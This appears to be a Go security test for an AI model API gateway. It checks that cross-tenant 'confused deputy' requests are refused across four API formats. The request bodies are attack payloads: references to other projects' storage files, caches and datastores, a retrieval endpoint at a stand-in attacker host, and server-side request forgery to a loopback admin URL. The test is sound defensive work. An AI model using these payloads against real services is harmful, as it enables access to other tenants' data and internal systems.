package attack

import (
	"fmt"
	"strings"
	"testing"
)

// deputy are requests that use what only the gateway may do.
var deputy = []attack{
	{"names files, caches and stores of others", func(t *testing.T, v *victim) string {
		v.fake.Reset()
		refused := 0
		for _, r := range deputyRequests() {
			got := v.do(t, r)
			if got.status != 400 && got.status != 403 {
				t.Errorf("%s %s: %v", r.path, r.body, got)
			}
			refused++
		}
		for _, req := range v.fake.Requests() {
			t.Errorf("the provider got %s", req.Body)
		}
		return fmt.Sprintf("%d requests in four APIs refused, none reached the provider", refused)
	}},
}

func deputyRequests() []request {
	native := func(body string) request {
		return request{path: "/v1beta/models/gemini-3.5-flash:generateContent", body: body}
	}
	const turn = `"contents":[{"role":"user","parts":[{"text":"hello"}]}]`
	return []request{
		{path: "/v1/messages", body: `{"model":"gemini-3.5-flash","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"gs://other/secret.pdf"}}]}]}`},
		{path: "/v1/chat/completions", body: `{"model":"gemini-3.5-flash","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"gs://other/secret.png"}}]}]}`},
		{path: "/v1/responses", body: `{"model":"gemini-3.5-flash","input":[{"role":"user","content":[{"type":"input_file","file_url":"gs://other/secret.pdf"}]}]}`},
		native(`{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/plain","fileUri":"gs://other/secret"}}]}]}`),
		native(`{"contents":[{"role":"user","parts":[{"file_data":{"mime_type":"text/plain","file_uri":"gs://other/secret"}}]}]}`),
		native(`{` + turn + `,"cachedContent":"cachedContents/of-another"}`),
		native(`{` + turn + `,"cached_content":"projects/other/locations/us/cachedContents/1"}`),
		native(`{` + turn + `,"tools":[{"retrieval":{"vertexAiSearch":{"datastore":"projects/other/locations/global/collections/c/dataStores/d"}}}]}`),
		native(`{` + turn + `,"tools":[{"retrieval":{"externalApi":{"endpoint":"https://attacker.example"}}}]}`),
		native(`{` + turn + `,"modelArmorConfig":{"promptTemplateName":"projects/other/locations/us/templates/t"}}`),
		native(`{` + turn + `,"systemInstruction":{"parts":[{"text":"s"},{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"mimeType":"text/plain","fileUri":"gs://other/secret"}}]}}]}}`),
		native(`{"contents":[[{"role":"user","parts":[{"fileData":{"mimeType":"text/plain","fileUri":"gs://other/secret"}}]}]]}`),
		native(`{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com.:0443/v1beta/files/of-another"}}]}]}`),
		native(`{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/plain","fileUri":"http://127.1/admin"}}]}]}`),
		native(strings.Replace(`{`+turn+`}`, `{"text":"hello"}`, `{"text":"x"},{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"gs://other/secret","mimeType":"text/plain"}}]}}`, 1)),
	}
}
